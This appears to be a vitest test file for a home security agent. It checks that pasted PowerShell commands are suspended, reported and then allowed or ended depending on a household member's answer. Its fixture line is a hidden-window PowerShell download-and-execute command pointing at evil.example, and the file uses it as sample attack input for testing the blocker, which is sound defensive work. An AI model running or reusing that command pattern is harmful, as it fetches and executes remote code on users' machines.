import { hour } from '@porchlight/contract/time.ts';
import { noUnlistedPolicy, type UnlistedPolicy } from '@porchlight/contract/unlisted-protection.ts';
import { expect, it, onTestFinished } from 'vitest';
import { WAITING_MAX } from '../protection/waiting-starts.ts';
import { agentForTest, linked, type TestAgent } from '../testing/agent.ts';
import { browserOf } from '../testing/browser.ts';
import type { TestServer } from '../testing/server.ts';
import { until, untilCount } from '../testing/until.ts';

const pasted = 'powershell -w hidden -c "iex (irm https://evil.example/a)"';
const ordinary = 'powershell.exe -NoProfile -File C:\\Tools\\backup.ps1';

const start = ({ os }: TestAgent, line = pasted) =>
  os.start({
    name: 'powershell.exe',
    path: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    program: { os: 'windows', name: 'powershell.exe' },
    command: { line, args: [], parents: ['explorer.exe'], pipeline: [] },
  });
const suspended = ({ os }: TestAgent) => [...os.suspended].filter((pid) => [...os.running].some((one) => one.pid === pid));
const runs = ({ os }: TestAgent, { pid }: { pid: number }) => [...os.running].some((one) => one.pid === pid);
const reported = (server: TestServer) => [...server.detections.values()];

async function setUnlisted(server: TestServer, change: Partial<UnlistedPolicy>): Promise<void> {
  server.setPolicy({ unlisted: { ...noUnlistedPolicy, pasted_commands: 'block', ...change } });
  await until('the policy', () => server.policy_in_force === server.policy.version);
}

async function household(change: Partial<UnlistedPolicy> = {}) {
  const { server, test } = await linked();
  await setUnlisted(server, change);
  return { server, test };
}

async function waitingCommand() {
  const { server, test } = await household();
  const process = start(test);
  await until('the report', () => reported(server).length === 1);
  const answer = (identifier: string, what: 'yes' | 'no') =>
    setUnlisted(server, { answers: [{ identifier, answer: what, until: new Date(Date.now() + hour).toISOString() }] });
  return { server, test, process, identifier: reported(server)[0]?.identifier ?? '', answer };
}

it('[P12.4] a pasted command is suspended and reported once without its line, and an ordinary one runs', async () => {
  const { server, test } = await household();
  const [bad, good] = [start(test), start(test, ordinary)];
  await until('the report', () => reported(server).length === 1);
  expect(suspended(test)).toEqual([bad.pid]);
  expect(runs(test, good)).toBe(true);
  expect(reported(server)).toMatchObject([{ category: 'PastedCommand', blocked: true, details: 'evil.example', start: 'person' }]);
  expect(reported(server)[0]?.name).toMatch(/^A pasted /);
  expect(JSON.stringify(server.sent)).not.toMatch(/iex|irm|hidden/);
  // A new policy scans all programs again, and reports nothing twice.
  await setUnlisted(server, {});
  expect(server.sent).toHaveLength(1);
});

it('[P12.4] after a yes the command goes on, also through later policies, and only for that command', async () => {
  const { server, test, process, identifier, answer } = await waitingCommand();
  await answer(identifier, 'yes');
  await until('the command to go on', () => suspended(test).length === 0);
  expect(runs(test, process)).toBe(true);
  await setUnlisted(server, { answers: [] });
  expect(suspended(test)).toEqual([]);
  const other = start(test, `${pasted} # again`);
  await until('the other to wait', () => suspended(test).length === 1);
  expect(suspended(test)).toEqual([other.pid]);
});

it('[P12.4] with a yes in force the same command, pasted again, runs without waiting', async () => {
  const { test, identifier, answer } = await waitingCommand();
  await answer(identifier, 'yes');
  const again = start(test);
  expect(suspended(test)).toEqual([]);
  expect(runs(test, again)).toBe(true);
});

it('[P12.4] a no ends the command, and the same one ends at once as long as the no lasts', async () => {
  const { server, test, process, identifier, answer } = await waitingCommand();
  const bystander = start(test, ordinary);
  await answer(identifier, 'no');
  await until('its end', () => !runs(test, process));
  const again = start(test);
  await until('the end of the second one', () => !runs(test, again));
  await until('its report', () => reported(server).length === 2);
  expect(reported(server).every(({ blocked }) => blocked)).toBe(true);
  expect(runs(test, bystander)).toBe(true);
});

it('[P12.4] a no after a yes ends the command where it still runs, and no other', async () => {
  const { server, test, process, identifier, answer } = await waitingCommand();
  const bystander = start(test, ordinary);
  await answer(identifier, 'yes');
  await until('the command to go on', () => suspended(test).length === 0);
  expect(runs(test, process)).toBe(true);
  await answer('command-of-somebody-else', 'no');
  expect(runs(test, process)).toBe(true);
  await answer(identifier, 'no');
  await until('its end', () => !runs(test, process));
  await until('its report', () => reported(server).length === 2);
  expect(runs(test, bystander)).toBe(true);
});

it('[P12.4] an answer about another command changes nothing', async () => {
  const { test, process, answer } = await waitingCommand();
  await answer('command-of-somebody-else', 'no');
  expect(suspended(test)).toEqual([process.pid]);
  await answer('command-of-somebody-else', 'yes');
  expect(suspended(test)).toEqual([process.pid]);
});

it('[P10.3] what nobody has answered for a day of running time is ended, and no hour earlier', async () => {
  const { test, process } = await waitingCommand();
  test.clock.up += 23 * hour;
  test.os.start({ name: 'date' });
  expect(suspended(test)).toEqual([process.pid]);
  test.clock.up += hour;
  await until('its end', () => !runs(test, process));
});

it('[P12.4] what somebody at the computer lets go on without an answer is ended', async () => {
  const { test, process } = await waitingCommand();
  test.os.suspended.delete(process.pid);
  await until('its end', () => !runs(test, process));
});

it('[P12.4] the agent that follows after a crash knows what waits, and lets it go on after a yes', async () => {
  const { server, test, process, identifier, answer } = await waitingCommand();
  await test.agent.stepBack();
  await test.close();
  expect(suspended(test)).toEqual([process.pid]);
  const next = await agentForTest(server, { os: test.os, folder: test.folder, clock: test.clock });
  await until('the poll of the next agent', () => server.policy_in_force === server.policy.version);
  await answer(identifier, 'yes');
  await until('the command to go on', () => suspended(next).length === 0);
  expect(runs(next, process)).toBe(true);
});

it.each([
  ['can', true],
  ['cannot', false],
])(
  '[P12.4] what an agent was suspending when it was killed does not go on without a yes under the next agent, which %s suspend it again',
  async (_can, isAllowed) => {
    const { server, test } = await household();
    const { os } = test;
    const suspend = os.suspend;
    const killed = Promise.withResolvers<null>();
    os.suspend = async (roots) => {
      await suspend(roots);
      return killed.promise;
    };
    const process = start(test);
    const bystander = start(test, ordinary);
    await until('the suspension', () => suspended(test).length === 1);
    os.suspend = isAllowed ? suspend : () => Promise.reject(new Error('The system refused it.'));
    const next = await agentForTest(server, { os, folder: test.folder, clock: test.clock });
    await until('the poll of the next agent', () => server.policy_in_force === server.policy.version);
    // An agent ends only the starts that it knows to wait.
    onTestFinished(() => killed.resolve(null));
    os.suspended.delete(process.pid);
    await until('its end', () => !runs(next, process));
    expect(runs(next, bystander)).toBe(true);
  },
);

it('[P12.4] what waits is ended when the agent is stopped for good, since nobody could answer any more', async () => {
  const { test, process } = await waitingCommand();
  const bystander = start(test, ordinary);
  await test.agent.close('stopped');
  expect([runs(test, process), runs(test, bystander)]).toEqual([false, true]);
});

it('[P12.4] what ran before the agent is not stopped in its middle, and a command during a pause is not', async () => {
  const { server, test } = await linked();
  const before = start(test);
  await setUnlisted(server, {});
  expect([suspended(test), runs(test, before), reported(server)]).toEqual([[], true, []]);
});

it('[P4.1] where the profile only alerts, the command runs and is reported as not blocked', async () => {
  const { server, test } = await household({ pasted_commands: 'alert' });
  const process = start(test);
  await until('the report', () => reported(server).length === 1);
  expect(reported(server)).toMatchObject([{ category: 'PastedCommand', blocked: false }]);
  expect([suspended(test), runs(test, process)]).toEqual([[], true]);
});

it('[P12.4] a command that cannot be suspended is reported as not blocked', async () => {
  const { server, test } = await household();
  test.os.refusesToSuspend = true;
  start(test);
  await until('the report', () => reported(server).length === 1);
  expect(reported(server)).toMatchObject([{ blocked: false }]);
});

it('[P12.4] the window says that it waits and for whom, and has no button that asks again', async () => {
  const { test } = await waitingCommand();
  await until('the window', () => test.os.opened.length > 0);
  const page = await (await browserOf(test)).page();
  expect(page).toContain('We stopped a pasted');
  expect(page).toContain('It waits, and does nothing until Anna says yes.');
  expect(page).toContain('We asked Anna.');
  expect(page).not.toContain('I asked for this');
});

it.each([
  ['no', 'Someone said no, so we ended it.'],
  ['yes', 'Someone said yes, so we let it go on.'],
] as const)('[P12.4] after a %s the window says so, and no longer that it waits', async (what, words) => {
  const { test, identifier, answer } = await waitingCommand();
  await until('the window', () => test.os.opened.length > 0);
  const browser = await browserOf(test);
  await answer('command-of-somebody-else', what);
  expect(await browser.page()).toContain('It waits, and does nothing until Anna says yes.');
  await answer(identifier, what);
  await until('the answer', () => suspended(test).length === 0);
  const page = await browser.page();
  expect(page).toContain(words);
  expect(page).not.toContain('It waits');
  expect(page).not.toContain('We asked');
});

it('[P12.4] a start that ends at once because of a no, or because fifty wait already, does not read as if it waited', async () => {
  const { server, test, identifier, answer } = await waitingCommand();
  await answer(identifier, 'no');
  await until('its end', () => test.os.running.size === 0);
  const pageOf = async () => (await browserOf(test)).page();
  start(test);
  await until('the report', () => reported(server).length === 2);
  expect(await pageOf()).toContain('Someone said no, so we ended it.');
  for (let n = 0; n < WAITING_MAX; n++) start(test, `${pasted} # ${n}`);
  await untilCount('the reports', WAITING_MAX + 2, () => reported(server).length);
  expect(await pageOf()).toContain('It waits, and does nothing until Anna says yes.');
  start(test, `${pasted} # last`);
  await untilCount('the last report', WAITING_MAX + 3, () => reported(server).length);
  expect(await pageOf()).toContain('We ended it. It can’t run without a yes.');
  expect(suspended(test)).toHaveLength(WAITING_MAX);
});

it('of 1,000 pasted commands fifty wait, the others end at once, and all are reported', async () => {
  const { server, test } = await household();
  const all = Array.from({ length: 1000 }, (_, n) => start(test, `${pasted} # ${n}`));
  await untilCount('the reports', 1000, () => reported(server).length);
  await untilCount('the end of the others', WAITING_MAX, () => all.filter((one) => runs(test, one)).length);
  expect(suspended(test)).toHaveLength(WAITING_MAX);
});

it('after 5,000 other starts a command that a yes let go on is still known, and the agent has forgotten what ended', async () => {
  const { server, test, process, identifier, answer } = await waitingCommand();
  await answer(identifier, 'yes');
  await until('the command to go on', () => suspended(test).length === 0);
  let inventories = 0;
  const watch = test.os.watchProcesses;
  test.os.watchProcesses = (every, report) => {
    inventories++;
    return watch(every, report);
  };
  for (let n = 0; n < 5000; n++) {
    test.os.running.delete(test.os.start({ name: 'date' }));
    if (n % 500 === 0) await new Promise((resolve) => setImmediate(resolve));
  }
  await setUnlisted(server, { answers: [] });
  expect(inventories).toBeGreaterThan(1);
  expect(inventories).toBeLessThan(12);
  expect([suspended(test), runs(test, process)]).toEqual([[], true]);
});
